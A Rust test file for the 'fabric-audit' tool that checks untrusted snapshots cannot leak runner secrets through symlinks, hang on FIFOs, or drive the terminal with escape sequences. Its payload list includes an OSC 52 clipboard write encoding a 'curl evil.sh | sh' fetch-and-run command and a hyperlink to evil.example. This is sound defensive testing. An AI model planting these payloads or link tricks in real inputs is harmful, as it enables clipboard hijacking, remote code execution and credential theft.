//! Issue 19, the reading side: a snapshot from an untrusted source (a pull request in CI, a
//! folder someone sent) is read only from its own regular files, within a size cap; report
//! text from it cannot drive the terminal; and any line ending reads the same.
//!
//! Every test runs the `fabric-audit` binary on real files, as CI would.

use crate::common;

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

const MARKER: &str = "RUNNER-SECRET-7f3a9c";
const FORMATS: [&str; 7] = [
    "table", "json", "markdown", "sarif", "junit", "github", "html",
];

fn bin() -> Command {
    Command::new(env!("CARGO_BIN_EXE_fabric-audit"))
}

/// Run the binary, killed after `limit` (a read that blocks must fail the test, not hang it).
fn run_bounded(args: &[&str], limit: Duration) -> Output {
    use std::io::Read;
    let mut child = bin()
        .args(args)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // Drain both pipes while waiting, or a large report would block the child on a full pipe.
    let drain = |mut r: Box<dyn Read + Send>| {
        std::thread::spawn(move || {
            let mut b = Vec::new();
            let _ = r.read_to_end(&mut b);
            b
        })
    };
    let out = drain(Box::new(child.stdout.take().unwrap()));
    let err = drain(Box::new(child.stderr.take().unwrap()));
    let start = Instant::now();
    let status = loop {
        if let Some(s) = child.try_wait().unwrap() {
            break s;
        }
        if start.elapsed() > limit {
            let _ = child.kill();
            let _ = child.wait();
            panic!("fabric-audit {args:?} still running after {limit:?}: it blocked");
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    Output {
        status,
        stdout: out.join().unwrap(),
        stderr: err.join().unwrap(),
    }
}

fn audit(snap: &Path, format: &str) -> Output {
    run_bounded(
        &["audit", snap.to_str().unwrap(), "--format", format],
        Duration::from_secs(60),
    )
}

fn json(out: &Output) -> serde_json::Value {
    serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("not JSON ({e}): {}", String::from_utf8_lossy(&out.stderr)))
}

/// The PARSE010 findings of a JSON report, as (device, message).
fn refused(v: &serde_json::Value) -> Vec<(String, String)> {
    v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "PARSE010")
        .map(|f| {
            (
                f["device"].as_str().unwrap_or("").to_string(),
                f["message"].as_str().unwrap_or("").to_string(),
            )
        })
        .collect()
}

/// A copy of a fixture snapshot in a fresh scratch folder; returns (scratch, snapshot).
fn copy(fixture: &str, tag: &str) -> (common::Scratch, PathBuf) {
    let dir = common::scratch("hostile", tag);
    let snap = dir.join("snap");
    common::copy_tree(&common::fixtures().join(fixture), &snap);
    (dir, snap)
}

#[cfg(unix)]
fn link(target: &Path, at: &Path) {
    std::os::unix::fs::symlink(target, at).unwrap();
}

/// "What was seen" 1: `configs/leaf9.cfg -> a file outside` is not read; its content is in no
/// format, and a finding names the link. The same for a linked device folder.
#[cfg(unix)]
#[test]
fn a_link_out_of_the_snapshot_is_named_and_never_read() {
    let (dir, snap) = copy("clean-fabric", "link");
    let secret = dir.join("id_ed25519");
    std::fs::write(
        &secret,
        format!("{MARKER} -----BEGIN OPENSSH PRIVATE KEY-----\nfeature lldp\n"),
    )
    .unwrap();
    // The pull request also names leaf9 an NX-OS switch, so a followed link would be parsed
    // and its lines echoed as unrecognized (what today's main does, in every format).
    let mut fabric = std::fs::read_to_string(snap.join("fabric.toml")).unwrap();
    fabric.push_str("\n[[device]]\nname = \"leaf9\"\nplatform = \"nxos\"\n");
    std::fs::write(snap.join("fabric.toml"), fabric).unwrap();
    let secrets = dir.join("secrets");
    std::fs::create_dir_all(&secrets).unwrap();
    std::fs::write(secrets.join("show_version.txt"), format!("{MARKER}\n")).unwrap();
    link(&secret, &snap.join("configs/leaf9.cfg"));
    link(&secrets, &snap.join("devices/leaf7"));
    for format in FORMATS {
        let out = audit(&snap, format);
        assert_eq!(
            out.status.code(),
            Some(1),
            "{format}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(
            !text.contains(MARKER) && !String::from_utf8_lossy(&out.stderr).contains(MARKER),
            "{format}: the content of a file outside the snapshot reached the report"
        );
        assert!(
            text.contains("leaf9.cfg") && text.contains("PARSE010"),
            "{format}: the refused link is not named:\n{text}"
        );
    }
    let v = json(&audit(&snap, "json"));
    let r = refused(&v);
    assert!(
        r.iter().any(|(d, m)| d == "leaf9"
            && m.contains("configs/leaf9.cfg is a symbolic link")
            && m.contains("not followed")),
        "{r:?}"
    );
    assert!(
        r.iter()
            .any(|(d, m)| d == "leaf7" && m.starts_with("devices/leaf7 is a symbolic link")),
        "{r:?}"
    );
    // The refused files are no input: no device was built from them.
    let m = json(&audit(&snap, "model"));
    let devices: Vec<&str> = m["devices"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|d| d["name"].as_str())
        .collect();
    assert!(devices.contains(&"leaf1") && !devices.contains(&"leaf7"));
    let leaf9 = m["devices"]
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["name"] == "leaf9");
    assert!(
        leaf9.is_none_or(|d| d["parse"].as_array().is_none_or(|p| p.is_empty())),
        "a file was read for leaf9: {leaf9:?}"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

/// "What was seen" 2: fabric.toml, device.toml, collection.toml, waivers.toml or probes.json
/// as a FIFO never blocks; as a link to /dev/zero never grows memory. Each is a finding and the
/// audit goes on.
#[cfg(unix)]
#[test]
fn fifos_and_dev_zero_are_refused_without_blocking() {
    let (dir, snap) = copy("clean-fabric", "fifo");
    std::fs::remove_file(snap.join("fabric.toml")).unwrap();
    let fifo = |p: &Path| {
        let c = std::ffi::CString::new(p.to_str().unwrap()).unwrap();
        // SAFETY: a valid NUL-terminated path; mkfifo only creates a file.
        assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0, "mkfifo");
    };
    fifo(&snap.join("fabric.toml"));
    std::fs::remove_file(snap.join("devices/gpu01/device.toml")).unwrap();
    fifo(&snap.join("devices/gpu01/device.toml"));
    fifo(&snap.join("waivers.toml"));
    link(Path::new("/dev/zero"), &snap.join("collection.toml"));
    link(Path::new("/dev/zero"), &snap.join("probes.json"));
    std::fs::remove_file(snap.join("devices/gpu02/ethtool_-S_eth2.txt")).unwrap();
    link(
        Path::new("/dev/zero"),
        &snap.join("devices/gpu02/ethtool_-S_eth2.txt"),
    );
    let start = Instant::now();
    let out = run_bounded(
        &["audit", snap.to_str().unwrap(), "--format", "json"],
        Duration::from_secs(20),
    );
    let elapsed = start.elapsed();
    let v = json(&out);
    let r = refused(&v);
    for (file, what) in [
        ("fabric.toml", "is a FIFO"),
        ("devices/gpu01/device.toml", "is a FIFO"),
        ("waivers.toml", "is a FIFO"),
        ("collection.toml", "is a symbolic link (to /dev/zero)"),
        ("probes.json", "is a symbolic link (to /dev/zero)"),
        (
            "devices/gpu02/ethtool_-S_eth2.txt",
            "is a symbolic link (to /dev/zero)",
        ),
    ] {
        assert!(
            r.iter()
                .any(|(_, m)| m.starts_with(&format!("{file} {what}"))),
            "{file}: no PARSE010 saying it {what}: {r:?}"
        );
    }
    assert!(elapsed < Duration::from_secs(20));
    // Peak memory of the audit stays that of a normal audit (GNU time, when present).
    if Path::new("/usr/bin/time").exists() {
        let t = Command::new("/usr/bin/time")
            .args(["-f", "%M"])
            .arg(env!("CARGO_BIN_EXE_fabric-audit"))
            .args(["audit", snap.to_str().unwrap(), "--format", "json"])
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&t.stderr);
        let kb: u64 = err
            .lines()
            .last()
            .and_then(|l| l.trim().parse().ok())
            .unwrap_or(0);
        assert!(kb > 0 && kb < 400_000, "peak memory {kb} KiB");
    }
    let _ = std::fs::remove_dir_all(&dir);
}

/// A file over the per-file cap is a finding that states its size and the cap; the cap is the
/// command line's (`--max-file-size`), and the rest of the snapshot is audited.
#[test]
fn a_file_over_the_cap_is_a_finding_not_a_failure() {
    let (dir, snap) = copy("clean-fabric", "cap");
    let line = "x".repeat(300_000);
    std::fs::write(snap.join("devices/gpu01/ethtool_-S_eth3.txt"), &line).unwrap();
    let out = run_bounded(
        &[
            "--max-file-size",
            "256K",
            "audit",
            snap.to_str().unwrap(),
            "--format",
            "json",
        ],
        Duration::from_secs(60),
    );
    let v = json(&out);
    let r = refused(&v);
    assert_eq!(
        r,
        vec![(
            "gpu01".to_string(),
            "devices/gpu01/ethtool_-S_eth3.txt is 300000 bytes, over the per-file cap of 262144 bytes: not read (raise it with --max-file-size if the file is genuine)".to_string()
        )]
    );
    // Under the default cap the same file is read (and its one long line is clipped in the
    // report, its length stated).
    let v = json(&audit(&snap, "json"));
    assert!(refused(&v).is_empty());
    let text = serde_json::to_string(&v).unwrap();
    assert!(text.contains("… (300000 bytes)"), "long line not clipped");
    assert!(
        text.len() < 200_000,
        "a 300 kB line made a {} byte report",
        text.len()
    );
    // A bad size is a usage error.
    let out = bin()
        .args(["--max-file-size", "lots", "audit", snap.to_str().unwrap()])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let _ = std::fs::remove_dir_all(&dir);
}

/// "What was seen" 1 through `review`: a pull request whose head commit adds a symbolic link
/// config gets a finding naming it, never the file it points at.
#[cfg(unix)]
#[test]
fn review_of_a_commit_adding_a_link_does_not_post_runner_files() {
    let dir = common::scratch("hostile", "review");
    let repo = dir.join("repo");
    let snap = repo.join("fabric");
    common::copy_tree(&common::fixtures().join("clean-mixed-fabric"), &snap);
    common::git(&repo, &["init", "-q", "-b", "main"]);
    common::git(&repo, &["add", "-A"]);
    common::git(&repo, &["commit", "-q", "-m", "fabric"]);
    let secret = dir.join("runner-credentials");
    std::fs::write(&secret, format!("{MARKER} token=abc\nfeature lldp\n")).unwrap();
    link(&secret, &snap.join("configs/leaf9.cfg"));
    let mut fabric = std::fs::read_to_string(snap.join("fabric.toml")).unwrap();
    fabric.push_str("\n[[device]]\nname = \"leaf9\"\nplatform = \"nxos\"\n");
    std::fs::write(snap.join("fabric.toml"), fabric).unwrap();
    common::git(&repo, &["add", "-A"]);
    common::git(&repo, &["commit", "-q", "-m", "add leaf9"]);
    for format in FORMATS {
        let out = run_bounded(
            &[
                "review",
                "--repo",
                repo.to_str().unwrap(),
                "--base",
                "HEAD~1",
                "--head",
                "HEAD",
                "--path",
                "fabric",
                "--format",
                format,
            ],
            Duration::from_secs(60),
        );
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(
            out.status.code() == Some(1),
            "{format}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(
            !text.contains(MARKER),
            "{format}: runner file in the review"
        );
        assert!(
            text.contains("PARSE010") && text.contains("leaf9.cfg"),
            "{format}: the link is not named:\n{text}"
        );
    }
    // The snapshot folder itself as a link in the commit is refused, not followed.
    let outside = dir.join("outside");
    common::copy_tree(&common::fixtures().join("clean-fabric"), &outside);
    link(&outside, &repo.join("linked"));
    common::git(&repo, &["add", "-A"]);
    common::git(&repo, &["commit", "-q", "-m", "linked snapshot"]);
    let out = bin()
        .args(["review", "--repo", repo.to_str().unwrap()])
        .args(["--base", "HEAD", "--head", "HEAD", "--path", "linked"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("is a symbolic link"));
    let _ = std::fs::remove_dir_all(&dir);
}

// ---- Terminal escapes ("What was seen" 3) ----

/// Escape sequences an attacker would plant: OSC 52 (write the clipboard), OSC 0 (window
/// title), CSI 2J (clear the screen), OSC 8 (a hyperlink), and a one-character C1 CSI.
const PAYLOADS: [(&str, &str); 5] = [
    ("osc52", "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"),
    ("osc0", "\x1b]0;owned\x07"),
    ("csi2j", "\x1b[2J\x1b[H"),
    (
        "osc8",
        "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    ),
    ("c1csi", "\u{9b}31m"),
];

/// A snapshot whose leaf1 config carries `payload` in an unrecognized line and whose file
/// name and description carry it too.
fn escape_snapshot(tag: &str, payload: &str) -> (common::Scratch, PathBuf) {
    let (dir, snap) = copy("clean-fabric", tag);
    let cfg = snap.join("configs/leaf1.cfg");
    let text = std::fs::read_to_string(&cfg).unwrap();
    let text = text.replacen(
        "\ninterface Ethernet1/1\n",
        &format!("\nbogus-command {payload} end\ninterface Ethernet1/1\n"),
        1,
    );
    std::fs::write(&cfg, text).unwrap();
    std::fs::write(
        snap.join("devices/gpu01")
            .join(format!("junk{}.txt", payload.replace('/', "_"))),
        "x\n",
    )
    .unwrap();
    (dir, snap)
}

fn assert_no_raw_controls(sink: &str, name: &str, out: &[u8]) {
    let text = String::from_utf8_lossy(out);
    let bad: Vec<char> = text
        .chars()
        .filter(|&c| (c.is_control() && c != '\n') || c == '\u{9b}')
        .collect();
    assert!(
        bad.is_empty(),
        "{sink}/{name}: raw control characters reach the output: {bad:?}"
    );
}

#[test]
fn the_table_shows_control_characters_escaped() {
    for (name, payload) in PAYLOADS {
        let (dir, snap) = escape_snapshot(&format!("table-{name}"), payload);
        let out = audit(&snap, "table");
        assert_no_raw_controls("table", name, &out.stdout);
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(
            text.contains("bogus-command") && text.contains("junk"),
            "table/{name}: the planted line is not reported:\n{text}"
        );
        let first = payload.chars().next().unwrap();
        let shown = if first == '\x1b' { "\\x1b" } else { "\\u{9b}" };
        assert!(
            text.contains(shown),
            "table/{name}: {shown} not shown:\n{text}"
        );
        let _ = std::fs::remove_dir_all(&dir);
    }
}

#[test]
fn github_annotations_show_control_characters_escaped() {
    for (name, payload) in PAYLOADS {
        let (dir, snap) = escape_snapshot(&format!("gh-{name}"), payload);
        let out = audit(&snap, "github");
        assert_no_raw_controls("github", name, &out.stdout);
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(
            text.lines()
                .any(|l| l.starts_with("::") && l.contains("bogus-command")),
            "github/{name}: the planted line is not annotated:\n{text}"
        );
        assert!(
            text.contains("\\x1b") || text.contains("\\u{9b}"),
            "github/{name}"
        );
        // Every line is still a workflow command: nothing a device sends starts a new one.
        assert!(text.lines().all(|l| l.starts_with("::")), "{text}");
        let _ = std::fs::remove_dir_all(&dir);
    }
}

// ---- Line endings ("What was seen" 7) ----

fn rewrite_all(dir: &Path, f: &dyn Fn(&str) -> Vec<u8>) {
    for e in std::fs::read_dir(dir).unwrap().flatten() {
        let p = e.path();
        if p.is_dir() {
            rewrite_all(&p, f);
        } else if p.file_name().is_some_and(|n| n != "fabric.toml") {
            let text = std::fs::read_to_string(&p).unwrap();
            std::fs::write(&p, f(&text)).unwrap();
        }
    }
}

/// The model (`--format model`) and findings of a snapshot.
fn model_and_findings(snap: &Path) -> (serde_json::Value, Vec<String>) {
    let m = json(&audit(snap, "model"));
    let v = json(&audit(snap, "json"));
    let f = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            format!(
                "{} {} {} {}",
                f["rule"], f["device"], f["interface"], f["message"]
            )
        })
        .collect();
    (m, f)
}

/// A rewrite of a file's text (line ends, BOM).
type Rewrite<'a> = &'a dyn Fn(&str) -> Vec<u8>;

fn cr_only(t: &str) -> Vec<u8> {
    t.replace('\n', "\r").into_bytes()
}
fn crlf(t: &str) -> Vec<u8> {
    t.replace('\n', "\r\n").into_bytes()
}
fn mixed(t: &str) -> Vec<u8> {
    let ends = ["\n", "\r\n", "\r"];
    let mut out = String::new();
    for (i, l) in t.split_inclusive('\n').enumerate() {
        match l.strip_suffix('\n') {
            Some(body) => {
                out.push_str(body);
                // A CR then an empty LF-ended line is a CRLF pair to any reader: keep the
                // empty line by ending it with CR too.
                let end = if body.is_empty() && out.ends_with('\r') && ends[i % 3] == "\n" {
                    "\r"
                } else {
                    ends[i % 3]
                };
                out.push_str(end);
            }
            None => out.push_str(l),
        }
    }
    out.into_bytes()
}
fn bom(t: &str) -> Vec<u8> {
    let mut b = vec![0xEF, 0xBB, 0xBF];
    b.extend_from_slice(t.as_bytes());
    b
}

/// Every file of both clean fabrics (NX-OS, EOS, Linux; Cumulus YAML, Junos, SONiC JSON, Onyx,
/// OS10) rewritten with CR-only, CRLF, mixed line ends, or a UTF-8 BOM reads to the same model
/// and the same findings as the LF original.
#[test]
fn every_line_ending_and_a_bom_read_the_same_on_every_platform() {
    let cases: [(&str, Rewrite); 4] = [
        ("cr", &cr_only),
        ("crlf", &crlf),
        ("mixed", &mixed),
        ("bom", &bom),
    ];
    for fixture in ["clean-fabric", "clean-mixed-fabric"] {
        let (m0, f0) = model_and_findings(&common::fixtures().join(fixture));
        let platforms: std::collections::BTreeSet<&str> = m0["devices"]
            .as_array()
            .unwrap()
            .iter()
            .filter_map(|d| d["platform"].as_str())
            .collect();
        assert!(platforms.len() >= 3, "{platforms:?}");
        for (name, f) in cases {
            let (dir, snap) = copy(fixture, &format!("eol-{fixture}-{name}"));
            rewrite_all(&snap, f);
            let (m, fs) = model_and_findings(&snap);
            assert!(
                m == m0,
                "{fixture} with {name} line ends: the model differs from LF ({platforms:?})"
            );
            assert_eq!(fs, f0, "{fixture} with {name} line ends: findings differ");
            let _ = std::fs::remove_dir_all(&dir);
        }
    }
}

/// A NUL byte in a config or output is reported (PARSE003, naming the line), on every
/// platform.
#[test]
fn a_nul_byte_is_reported_on_every_platform() {
    for (fixture, files) in [
        (
            "clean-fabric",
            &[
                ("leaf1", "configs/leaf1.cfg"),
                ("leaf3", "configs/leaf3.cfg"),
                ("gpu01", "devices/gpu01/ethtool_-a_eth2.txt"),
            ][..],
        ),
        (
            "clean-mixed-fabric",
            &[
                ("leaf1", "configs/leaf1.json"),
                ("spine1", "configs/spine1.yaml"),
                ("spine2", "configs/spine2.conf"),
                ("leaf3", "configs/leaf3.cfg"),
                ("leaf4", "configs/leaf4.cfg"),
            ][..],
        ),
    ] {
        let (dir, snap) = copy(fixture, &format!("nul-{fixture}"));
        for (_, f) in files {
            let p = snap.join(f);
            let mut b = std::fs::read(&p).unwrap();
            let at = b.iter().position(|&c| c == b'\n').unwrap() + 1;
            b.insert(at + 2, 0);
            std::fs::write(&p, b).unwrap();
        }
        let v = json(&audit(&snap, "json"));
        for (dev, f) in files {
            assert!(
                v["findings"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .any(|x| x["rule"] == "PARSE003"
                        && x["device"] == *dev
                        && x["message"]
                            .as_str()
                            .is_some_and(|m| m.contains(f) && m.contains("NUL byte at line 2"))),
                "{fixture} {f}: NUL not reported"
            );
        }
        let _ = std::fs::remove_dir_all(&dir);
    }
}

/// "What was seen" 7 as a user meets it: an NX-OS config saved with CR-only line ends (it
/// opens with a `!` comment) still shows its planted fault (PFC off on Ethernet1/1).
#[test]
fn a_cr_only_nxos_config_keeps_its_fault() {
    let dir = common::scratch("hostile", "cr-nxos");
    let snap = dir.join("snap");
    common::build_case(
        &common::fixtures().join("rules/PFC001/nxos-port-mode-off.toml"),
        &snap,
    )
    .unwrap();
    let cfg = snap.join("configs/leaf1.cfg");
    let text = std::fs::read_to_string(&cfg).unwrap();
    assert!(text.starts_with('!'));
    std::fs::write(&cfg, cr_only(&text)).unwrap();
    let v = json(&audit(&snap, "json"));
    let fs = v["findings"].as_array().unwrap();
    assert!(
        fs.iter().any(|f| f["rule"] == "PFC001"
            && f["device"] == "leaf1"
            && f["interface"] == "Ethernet1/1"
            && f["severity"] == "error"),
        "the fault of a CR-only config disappeared"
    );
    // And the finding points at the right line, as an editor would count it.
    let line = text
        .lines()
        .position(|l| l.contains("priority-flow-control mode off"))
        .unwrap()
        + 1;
    assert!(
        fs.iter()
            .any(|f| f["rule"] == "PFC001" && f["source"]["line"].as_u64() == Some(line as u64)),
        "PFC001 does not cite line {line}"
    );
    let _ = std::fs::remove_dir_all(&dir);
}
